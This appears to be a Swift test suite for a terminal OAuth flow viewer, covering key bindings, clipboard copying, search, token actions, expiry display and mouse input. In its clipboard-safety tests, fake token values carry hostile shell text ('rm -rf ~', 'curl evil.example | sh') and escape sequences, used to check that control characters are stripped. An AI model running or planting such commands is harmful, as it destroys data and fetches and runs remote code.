import FlowEngine
import Foundation
import OAuthCore
import Testing

@testable import TerminalUI

/// Renders a frame the way the UI loop does and hands the pane metrics back to the UI state (what search and
/// the mouse need from the last frame).
func frame(_ state: FlowState, _ ui: inout UIState, width: Int = 120, height: Int = 40, now: Date? = nil) -> CellGrid {
    ui.observe(state)
    let f = ScreenRenderer(state: state, ui: ui, theme: .defaultDark, glyphs: .unicode, now: now).render(width: width, height: height)
    ui.clamp(to: f.metrics)
    return f.grid
}

extension UIState {
    mutating func type(_ text: String, state: FlowState) -> [UIEffect] {
        text.flatMap { handle(.char($0), state: state) }
    }
}

extension Fixture {
    /// The successful flow, then a refresh that rotated the refresh token and a userinfo call.
    static var successWithActions: EventScript {
        var s = success
        s.add(.httpRequest(HTTPRequestCapture(purpose: "refresh", method: "POST", url: "\(issuer)/token", headers: [HeaderField("Content-Type", "application/x-www-form-urlencoded")], body: Redactor.formBody("grant_type=refresh_token&refresh_token=\(refreshToken)"))), after: 1000)
        s.add(.httpResponse(HTTPResponseCapture(purpose: "refresh", status: 200, headers: [HeaderField("Content-Type", "application/json")], body: Redactor.jsonBody(#"{"access_token":"at-new-0001","token_type":"Bearer","expires_in":600,"refresh_token":"rt-new-0002"}"#), elapsedMs: 9)), after: 9)
        s.add(.actionCompleted(ActionCompleted(action: "refresh", ok: true, summary: "new access token; the refresh token rotated", rotated: true, accessToken: Sensitive(Secret("at-new-0001")), refreshToken: Sensitive(Secret("rt-new-0002")), expiresIn: 600)), after: 1)
        s.add(.actionCompleted(ActionCompleted(action: "userinfo", ok: false, summary: "no userinfo endpoint is known (discovery did not give one; pass --userinfo-url)")), after: 5)
        return s
    }
}

@Suite struct KeyTableTests {
    @Test func keysAreReboundFromATOMLTable() throws {
        let config = try TOML.parse("""
        [keys]
        reveal = "y"        # takes y from copy
        copy = "Y"
        search = ["/", "s"]
        refresh = "F5"
        bogus = "z"
        help = 7
        """)
        let (map, problems) = Keymap.standard.rebinding(try #require(config["keys"]?.tableValue), file: "config.toml")
        #expect(map.keys(for: .reveal) == [.char("y")])
        #expect(map.keys(for: .copy) == [.char("Y")])
        #expect(map.keys(for: .search) == [.char("/"), .char("s")])
        #expect(map.keys(for: .refresh) == [.char("R")], "a bad entry leaves the command as it was")
        #expect(problems.map(\.description) == [
            "config.toml:2: [keys]: y now means reveal, no longer copy",
            "config.toml:5: [keys]: refresh: \"F5\" is not a key (one character, or Space, Enter, Tab, S-Tab, Esc, Backspace, Up, Down, Left, Right, PgUp, PgDn, Home, End, C-c)",
            "config.toml:6: [keys]: unknown command \"bogus\" (commands: move-up, move-down, top, bottom, page-up, page-down, open, next-pane, previous-pane, help, back, quit, interrupt, reveal, continue, copy, search, search-next, search-previous, refresh, userinfo, introspect, revoke, check-rotation, replay-code, next-flow, previous-flow, export, replay-step, replay-faster, replay-slower, edit, again, diagram, bell, next-redirect-uri, call)",
            "config.toml:7: [keys]: help must be a key in quotes or an array of keys, e.g. help = [\"j\", \"Down\"]",
        ])
        var ui = UIState.test
        ui.keymap = map
        let done = Fixture.success.state
        _ = ui.handle(.char("y"), state: done)
        #expect(ui.isRevealed(.tokenExchanged), "y reveals now")
        #expect(ui.handle(.char("Y"), state: done).count == 1, "Y copies")
        for context in KeyContext.allCases {
            let keys = map.bindings.filter { $0.contexts.contains(context) }.map(\.key)
            #expect(Set(keys).count == keys.count, "a key is bound twice in \(context)")
        }
    }

    @Test func keyNames() {
        #expect(Key(name: "Space") == .char(" "))
        #expect(Key(name: "pgdn") == .pageDown)
        #expect(Key(name: "S-Tab") == .backTab)
        #expect(Key(name: "C-c") == .interrupt)
        #expect(Key(name: "N") == .char("N"))
        #expect(Key(name: "↑") == .up)
        #expect(Key(name: "\u{1b}") == nil)
        #expect(Key(name: "Hyper-x") == nil)
    }

    @Test func helpIsGeneratedFromTheEffectiveTable() throws {
        let config = try TOML.parse("[keys]\ncopy = [\"Y\", \"C\"]\nrefresh = \"F\"\n")
        var ui = UIState.test
        ui.keymap = Keymap.standard.rebinding(try #require(config["keys"]?.tableValue), file: "c.toml").keymap
        _ = ui.handle(.char("?"), state: Fixture.success.state)
        let text = render(Fixture.success.state, ui, width: 120, height: 80).text
        let copyRow = try #require(text.split(separator: "\n").first { $0.contains("Copy the selected value") })
        #expect(copyRow.contains("Y C  "), "the help shows the keys the user chose: \(copyRow)")
        #expect(!text.contains("y        Copy"))
        let refreshRow = try #require(text.split(separator: "\n").first { $0.contains("Tokens: refresh") })
        #expect(refreshRow.contains("F  "))
        for row in ui.keymap.helpRows() { #expect(text.contains(row.help), "help lacks \(row.help)") }
    }

    @Test func configProblemsAreListedInTheHelp() {
        var ui = UIState.test
        ui.configProblems = ["/t/bad.toml:3: unknown role \"stp.done\""]
        _ = ui.handle(.char("?"), state: FlowState())
        let text = render(Fixture.success.state, ui, width: 120, height: 80).text
        #expect(text.contains("Problems with the theme or the key bindings"))
        #expect(text.contains("/t/bad.toml:3: unknown role \"stp.done\""))
    }
}

@Suite struct CopyTests {
    @Test func osc52SequenceBytes() {
        // ESC ] 5 2 ; c ; base64("hello") BEL
        #expect(OSC52.sequence(for: "hello") == [0x1B, 0x5D, 0x35, 0x32, 0x3B, 0x63, 0x3B] + Array("aGVsbG8=".utf8) + [0x07])
        #expect(OSC52.sequence(for: "é→") == Array("\u{1b}]52;c;w6nihpI=\u{07}".utf8))
    }

    @Test func yCopiesTheValueOfTheSelectedStepOrEvent() throws {
        let state = Fixture.success.state
        var ui = UIState.test
        ui.followsCurrentStep = false
        ui.selectedStep = .urlBuilt
        let url = try #require(state.authorization?.url)
        #expect(ui.handle(.char("y"), state: state) == [.copy(url)])
        #expect(ui.notice?.hasPrefix("Copied the authorization URL") == true)

        ui.selectedStep = .tokenExchanged
        #expect(ui.handle(.char("y"), state: state).isEmpty, "a hidden token is not copied")
        #expect(ui.notice == "The access token is hidden: press r to show it, then y copies it.")
        _ = ui.handle(.char("r"), state: state)
        #expect(ui.handle(.char("y"), state: state) == [.copy(Fixture.accessToken)])

        let refreshed = Fixture.successWithActions.state
        #expect(ui.handle(.char("y"), state: refreshed) == [.copy("at-new-0001")], "the newest access token")

        ui.focus = .log
        let effects = ui.handle(.char("y"), state: state)
        let last = state.log[state.log.count - 1]
        #expect(effects == [.copy(last.jsonLine(reveal: false))])
    }
}

@Suite struct SearchTests {
    @Test func searchInTheDetailFindsMovesAndHighlights() throws {
        let state = Fixture.success.state
        var ui = UIState.test
        ui.followsCurrentStep = false
        ui.selectedStep = .urlBuilt
        _ = frame(state, &ui)
        _ = ui.handle(.char("/"), state: state)
        #expect(ui.searchInput == "")
        _ = ui.type("pkce", state: state)
        let typing = frame(state, &ui)
        #expect(typing.row(39).contains("Search detail: /pkce"))
        _ = ui.handle(.enter, state: state)
        let search = try #require(ui.search)
        let matches = ui.detailMatches("pkce", state: state)
        #expect(matches.count >= 2)
        #expect(search.current == matches[0])
        #expect(ui.detailScroll == max(0, matches[0] - 2))
        #expect(ui.notice?.hasPrefix("\"pkce\": match 1 of \(matches.count)") == true)
        let grid = frame(state, &ui)
        let marked = grid.cells.indices.filter { grid.cells[$0].role == .searchMatch }
        let markedText = marked.map { grid.cells[$0].text }.joined()
        #expect(markedText.lowercased().contains("pkce"), "the match is highlighted: \(markedText)")
        #expect(marked.allSatisfy { ($0 % grid.width) >= 42 }, "only the detail pane is searched")

        _ = ui.handle(.char("n"), state: state)
        #expect(ui.search?.current == matches[1])
        _ = ui.handle(.char("N"), state: state)
        #expect(ui.search?.current == matches[0])
        _ = ui.handle(.char("N"), state: state)
        #expect(ui.search?.current == matches.last, "N wraps round to the last match")
    }

    @Test func searchInTheLogSelectsMatchingEvents() throws {
        let state = Fixture.success.state
        var ui = UIState.test
        ui.focus = .log
        _ = frame(state, &ui)
        _ = ui.handle(.char("/"), state: state)
        _ = ui.type("TOKEN.RE", state: state)
        _ = ui.handle(.enter, state: state)
        let seqs = state.log.filter { $0.type.hasPrefix("token.re") }.map(\.seq)
        #expect(seqs.count == 2)
        #expect(ui.logSelection == seqs[0])
        _ = ui.handle(.char("n"), state: state)
        #expect(ui.logSelection == seqs[1])
        let grid = frame(state, &ui)
        let highlighted = (0..<grid.height).filter { y in (0..<grid.width).contains { grid[$0, y].role == .searchMatch } }
        #expect(highlighted.count == 2, "both token.request and token.response rows are highlighted")
    }

    @Test func escapeCancelsAndAnEmptyQueryClears() {
        let state = Fixture.success.state
        var ui = UIState.test
        _ = ui.handle(.char("/"), state: state)
        _ = ui.type("q", state: state)
        #expect(ui.searchInput == "q", "q is typed, not quit")
        _ = ui.handle(.escape, state: state)
        #expect(ui.searchInput == nil && ui.search == nil)
        _ = ui.handle(.char("n"), state: state)
        #expect(ui.notice == "No search yet: press / to search")
        _ = ui.handle(.char("/"), state: state)
        _ = ui.type("no such text anywhere", state: state)
        _ = ui.handle(.enter, state: state)
        #expect(ui.notice == "No match for \"no such text anywhere\"")
    }
}

@Suite struct TokenActionTests {
    @Test func actionKeysSendTheActionsOnceTheFlowCompleted() {
        let done = Fixture.success.state
        var ui = UIState.test
        ui.followsCurrentStep = false
        ui.selectedStep = .urlBuilt
        #expect(ui.handle(.char("R"), state: done) == [.send(.action("refresh"))])
        #expect(ui.displayedStep(in: done) == .tokenExchanged, "the step where the answer appears is shown")
        for (key, action) in [("u", TokenAction.userinfo), ("i", .introspect), ("X", .revoke), ("o", .checkRotation)] {
            #expect(ui.handle(.char(Character(key)), state: done) == [.send(.action(action))])
        }
        var waiting = UIState.test
        #expect(waiting.handle(.char("R"), state: Fixture.waiting.state).isEmpty)
        #expect(waiting.notice?.contains("wait for it to finish") == true)
        #expect(waiting.handle(.char("R"), state: Fixture.invalidGrant.state).isEmpty)
        #expect(waiting.notice == "No tokens were issued, so there is nothing to refresh.")
        for action in TokenAction.builtIn {
            #expect(UICommand.allCases.contains { $0.tokenAction == action }, "no key for \(action)")
        }
    }

    @Test func theStatusLineOffersThemOnTheTokenStep() {
        let done = Fixture.success.state
        let wide = render(done, width: 140, height: 40).text.split(separator: "\n").last.map(String.init) ?? ""
        for hint in ["R refresh", "u userinfo", "i introspect", "X revoke", "o rotation"] { #expect(wide.contains(hint), "\(hint) missing: \(wide)") }
        let narrow = render(done, width: 80, height: 24).text.split(separator: "\n").last.map(String.init) ?? ""
        #expect(narrow.contains("R/u/i/X/o tokens"), "\(narrow)")
        var ui = UIState.test
        ui.followsCurrentStep = false
        ui.selectedStep = .codeReceived
        #expect(!render(done, ui).text.contains("R refresh"), "only on the token step")
        #expect(!render(Fixture.invalidGrant.state).text.contains("R refresh"), "only when the flow completed")
    }

    @Test func eachActionShowsItsRawRequestResponseAndResult() {
        let state = Fixture.successWithActions.state
        var ui = UIState.test
        ui.followsCurrentStep = false
        ui.selectedStep = .tokenExchanged
        let text = render(state, ui, width: 140, height: 260).text
        #expect(text.contains("✓ refresh: new access token; the refresh token rotated"))
        #expect(text.contains("✗ userinfo: no userinfo endpoint is known"))
        #expect(text.contains("refresh · 12:00:01.268 · done"))
        #expect(text.contains("grant_type=refresh_token&refresh_token=rt-0…(35)"))
        #expect(text.contains("HTTP 200 · 9 ms"))
        #expect(text.contains("rotated  yes, a new refresh token replaced the old one"))
        #expect(text.contains("userinfo · 12:00:01.283 · failed"))
        #expect(!text.contains("Other requests"), "follow-up hops are not listed twice")
    }
}

@Suite struct ExpiryTests {
    static let start = EventScript.start

    func tokenScreen(_ state: FlowState, at seconds: Double) -> String {
        var ui = UIState.test
        ui.followsCurrentStep = false
        ui.selectedStep = .tokenExchanged
        return renderScreen(state: state, ui: ui, theme: .defaultDark, width: 140, height: 60, now: Self.start.addingTimeInterval(seconds)).text
    }

    func line(_ text: String, _ name: String) -> String {
        text.split(separator: "\n").first { $0.contains("  \(name)  ") && ($0.contains("expire")) }.map(String.init) ?? ""
    }

    @Test func countdownThenExpired() {
        let state = Fixture.success.state  // tokens at +0.267 s, expires_in 3600; id_token exp at +3600 s
        let early = tokenScreen(state, at: 60)
        #expect(line(early, "access_token").contains("expires in 59m00s · at 13:00:00 · expires_in"))
        #expect(line(early, "id_token").contains("expires in 59m00s · at 13:00:00 · exp claim"))
        let between = tokenScreen(state, at: 3600.1)
        #expect(line(between, "id_token").contains("! expired · at 13:00:00"), "the ID token's exp has passed")
        #expect(line(between, "access_token").contains("expires in 167ms"))
        let late = tokenScreen(state, at: 4000)
        #expect(line(late, "access_token").contains("! expired · at 13:00:00"))
        #expect(line(late, "id_token").contains("! expired"))
    }

    @Test func aRefreshRestartsTheAccessTokensClock() {
        let state = Fixture.successWithActions.state  // refreshed at +1.277 s with expires_in 600
        let text = tokenScreen(state, at: 11.277)
        #expect(line(text, "access_token").contains("expires in 9m50s · at 12:10:01 · expires_in of the refresh"))
        #expect(line(tokenScreen(state, at: 700), "access_token").contains("! expired"))
    }
}

@Suite struct MouseTests {
    @Test func clicksSelectAndTheWheelScrollsThePaneUnderThePointer() {
        let state = Fixture.success.state
        var ui = UIState.test
        let grid = frame(state, &ui)
        let codeRow = (0..<grid.height).first { grid.row($0).contains("Code received") } ?? -1
        _ = ui.handle(.mouse(MouseEvent(.press, x: 5, y: codeRow)), state: state)
        #expect(ui.displayedStep(in: state) == .codeReceived)
        #expect(ui.focus == .timeline)

        _ = frame(state, &ui)
        _ = ui.handle(.mouse(MouseEvent(.wheelDown, x: 80, y: 10)), state: state)
        #expect(ui.detailScroll == 3)
        #expect(ui.focus == .timeline, "the wheel does not move the focus")
        _ = ui.handle(.mouse(MouseEvent(.wheelUp, x: 80, y: 10)), state: state)
        #expect(ui.detailScroll == 0)

        let logGrid = frame(state, &ui)
        let row = (0..<logGrid.height).first { logGrid.row($0).contains("token.request") } ?? -1
        _ = ui.handle(.mouse(MouseEvent(.press, x: 30, y: row)), state: state)
        #expect(ui.focus == .log)
        #expect(ui.logSelection == state.log.first { $0.type == "token.request" }?.seq)
    }
}

@Suite struct ClipboardSafetyTests {
    @Test func controlCharactersAreStrippedAndCounted() {
        let (text, removed) = OSC52.clipboardText("at-1\nrm -rf ~\u{1b}]0;x\u{07}\u{7f}\u{85}\u{202e}\tend")
        #expect(text == "at-1rm -rf ~]0;xend")
        #expect(removed == 7)
        #expect(OSC52.clipboardText("plain-token.value_~").removed == 0)
    }

    @Test func aRevealedTokenIsCopiedWithoutControlCharactersAndTheStatusLineSaysSo() throws {
        var s = Fixture.success
        s.add(.tokenExchanged(TokenExchanged(tokenType: "Bearer", expiresIn: 60, scope: nil,
                                             accessToken: Sensitive(clear: "at-2\n; curl evil.example | sh\r\u{1b}[2J", redacted: "…(36)"),
                                             refreshToken: nil, idToken: nil, extra: nil)))
        var ui = UIState.test
        ui.followsCurrentStep = false
        ui.selectedStep = .tokenExchanged
        _ = ui.handle(.char("r"), state: s.state)
        let effects = ui.handle(.char("y"), state: s.state)
        #expect(effects == [.copy("at-2; curl evil.example | sh[2J")])
        let notice = try #require(ui.notice)
        #expect(notice.contains("3 control characters were removed"), "\(notice)")
    }
}
